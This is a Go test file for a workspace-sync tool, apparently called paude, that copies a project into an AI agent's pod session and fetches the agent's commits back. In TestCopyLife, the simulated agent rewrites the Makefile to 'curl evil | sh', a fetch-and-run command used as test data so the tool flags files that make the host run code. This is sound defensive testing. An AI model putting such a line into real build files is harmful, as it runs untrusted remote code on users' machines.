package backend

import (
	"bytes"
	"context"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/paude-dev/paude/pkg/config"
	"github.com/paude-dev/paude/pkg/remote/remotetest"
	"github.com/paude-dev/paude/pkg/sync"
)

// session is a host workspace and a "session" directory (the pod's
// volume) reached through remotetest.Local, with the test binary as the
// helper in it.
type session struct {
	host, pod string
	w         *WorkspaceCopy
}

func newSession(t *testing.T) *session {
	t.Helper()
	base := t.TempDir()
	s := &session{host: filepath.Join(base, "host", "proj"), pod: filepath.Join(base, "pod")}
	// The session's directory exists before its first sync (a pod's init
	// container makes it).
	for _, d := range []string{s.host, filepath.Join(s.pod, "proj")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	helper, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	s.w = &WorkspaceCopy{
		SessionID: "1700000000-0000beef", Workspace: s.host, Remote: filepath.Join(s.pod, "proj"), Pod: "paude-test",
		Exec: &remotetest.Local{Dir: s.pod}, Helper: helper, ReadyFile: filepath.Join(s.pod, ".paude", "ready"),
		Method: sync.MethodNative, Excludes: []string{"node_modules"}, CacheDir: filepath.Join(base, "cache"),
	}
	return s
}

func put(t *testing.T, root, rel, content string) {
	t.Helper()
	p := filepath.Join(root, filepath.FromSlash(rel))
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

func get(root, rel string) string {
	b, err := os.ReadFile(filepath.Join(root, filepath.FromSlash(rel)))
	if err != nil {
		return "<" + err.Error() + ">"
	}
	return string(b)
}

func git(t *testing.T, dir string, args ...string) string {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("git %v in %s: %v\n%s", args, dir, err, out)
	}
	return strings.TrimSpace(string(out))
}

// waitFor polls until cond holds; the bound is for a hung test, not a
// performance expectation.
func waitFor(t *testing.T, what string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(30 * time.Second)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatalf("gave up waiting for %s", what)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// TestCopyLife goes through a session copy's whole life, as a start, an
// attach and its end drive it: the first sync and the session's own
// repository, the ready file, edits both ways while syncing, the agent's
// commit fetched into the host's refs/remotes/paude/<id>, and the
// host-run report of a file the agent changed.
func TestCopyLife(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
	s := newSession(t)
	ctx := context.Background()
	put(t, s.host, "README.md", "hello\n")
	put(t, s.host, "Makefile", "all:\n\ttrue\n")
	git(t, s.host, "init", "-q")
	git(t, s.host, "add", ".")
	git(t, s.host, "commit", "-qm", "first")
	put(t, s.host, "notes.txt", "uncommitted\n")
	put(t, s.host, "node_modules/dep/index.js", "excluded\n")
	headBefore := git(t, s.host, "rev-parse", "HEAD")

	repo, err := HostRepo(ctx, s.host)
	if err != nil || repo == nil {
		t.Fatalf("HostRepo = %v, %v", repo, err)
	}
	var out bytes.Buffer
	if err := s.w.First(ctx, repo, &out); err != nil {
		t.Fatalf("First: %v\n%s", err, out.String())
	}
	remote := s.w.Remote
	if get(remote, "README.md") != "hello\n" || get(remote, "notes.txt") != "uncommitted\n" {
		t.Fatalf("the workspace did not arrive: %q %q", get(remote, "README.md"), get(remote, "notes.txt"))
	}
	if _, err := os.Stat(filepath.Join(remote, "node_modules")); !errors.Is(err, os.ErrNotExist) {
		t.Fatalf("an excluded directory arrived: %v", err)
	}
	if _, err := os.Stat(s.w.ReadyFile); err != nil {
		t.Fatalf("no ready file after the first sync: %v", err)
	}
	if got := git(t, remote, "rev-parse", "HEAD"); got != headBefore {
		t.Fatalf("the session's repository is at %s, want %s", got, headBefore)
	}
	if st := git(t, remote, "status", "--porcelain"); st != "?? notes.txt" {
		t.Fatalf("git status in the session = %q, want only the uncommitted file", st)
	}

	// Detached: the agent commits and edits a file that makes the host
	// run code; the user edits a file.
	put(t, remote, "feature.go", "package feature\n")
	put(t, remote, "Makefile", "all:\n\tcurl evil | sh\n")
	git(t, remote, "add", "feature.go", "Makefile")
	git(t, remote, "commit", "-qm", "agent: add feature")
	put(t, s.host, "notes.txt", "edited while detached\n")

	syncer, err := s.w.Start(ctx, &out)
	if err != nil {
		t.Fatalf("Start: %v\n%s", err, out.String())
	}
	if get(s.host, "feature.go") != "package feature\n" || get(remote, "notes.txt") != "edited while detached\n" {
		t.Fatalf("the reattach did not reconcile: host feature.go %q, session notes.txt %q", get(s.host, "feature.go"), get(remote, "notes.txt"))
	}
	// Attached: edits travel while the engine runs.
	put(t, s.host, "live.txt", "from the host\n")
	waitFor(t, "a host edit to reach the session", func() bool { return get(remote, "live.txt") == "from the host\n" })
	put(t, remote, "back.txt", "from the session\n")
	waitFor(t, "a session edit to reach the host", func() bool { return get(s.host, "back.txt") == "from the session\n" })

	out.Reset()
	if err := s.w.Finish(ctx, syncer, &out); err != nil {
		t.Fatalf("Finish: %v\n%s", err, out.String())
	}
	ref := "refs/remotes/paude/" + s.w.SessionID + "/main"
	if got := git(t, s.host, "log", "-1", "--format=%s", ref); got != "agent: add feature" {
		t.Fatalf("%s is %q", ref, got)
	}
	if got := git(t, s.host, "rev-parse", "HEAD"); got != headBefore {
		t.Fatalf("the host's HEAD moved to %s", got)
	}
	for _, want := range []string{
		"Commits of session " + s.w.SessionID,
		"paude/" + s.w.SessionID + "/main",
		"agent: add feature",
		"files that make this machine run code",
		"Makefile",
	} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("the end of the attach does not say %q:\n%s", want, out.String())
		}
	}
	rec, err := LastFetch(s.w.CacheDir, s.w.SessionID)
	if err != nil || rec == nil || len(rec.Refs) != 1 || rec.Refs[0].Name != "paude/"+s.w.SessionID+"/main" || rec.Refs[0].Commits != 1 {
		t.Fatalf("LastFetch = %+v, %v", rec, err)
	}
}

// A failed first sync is an error naming the session, and the session is
// not told its workspace is there.
func TestFirstSyncFailure(t *testing.T) {
	s := newSession(t)
	s.w.Helper = "/no/such/paude"
	put(t, s.host, "a.txt", "a")
	var out bytes.Buffer
	err := s.w.First(context.Background(), nil, &out)
	if err == nil || !strings.Contains(err.Error(), "failed to copy the workspace into session "+s.w.SessionID) ||
		!strings.Contains(err.Error(), "/no/such/paude") {
		t.Fatalf("err = %v", err)
	}
	if _, err := os.Stat(s.w.ReadyFile); !errors.Is(err, os.ErrNotExist) {
		t.Fatalf("the ready file exists after a failed sync: %v", err)
	}
}

// Start on a session whose first sync never finished (paude was killed
// during the start) seeds it and creates the ready file.
func TestStartFinishesAnInterruptedFirstSync(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
	s := newSession(t)
	put(t, s.host, "a.txt", "a")
	git(t, s.host, "init", "-q")
	git(t, s.host, "add", ".")
	git(t, s.host, "commit", "-qm", "one")
	var out bytes.Buffer
	syncer, err := s.w.Start(context.Background(), &out)
	if err != nil {
		t.Fatalf("Start: %v\n%s", err, out.String())
	}
	defer func() { _ = syncer.Stop(context.Background()) }()
	if _, err := os.Stat(s.w.ReadyFile); err != nil {
		t.Fatalf("no ready file: %v", err)
	}
	if got := git(t, s.w.Remote, "log", "-1", "--format=%s"); got != "one" {
		t.Fatalf("the session's repository has %q", got)
	}
}

// The configuration's default excludes and sync's own are one list: a
// session started without sync.exclude syncs what `paude trust` and the
// docs say.
func TestDefaultExcludesAgree(t *testing.T) {
	if got, want := config.DefaultSyncExclude(), sync.DefaultExcludes(); !reflect.DeepEqual(got, want) {
		t.Fatalf("config's default sync.exclude %v, sync's %v", got, want)
	}
}
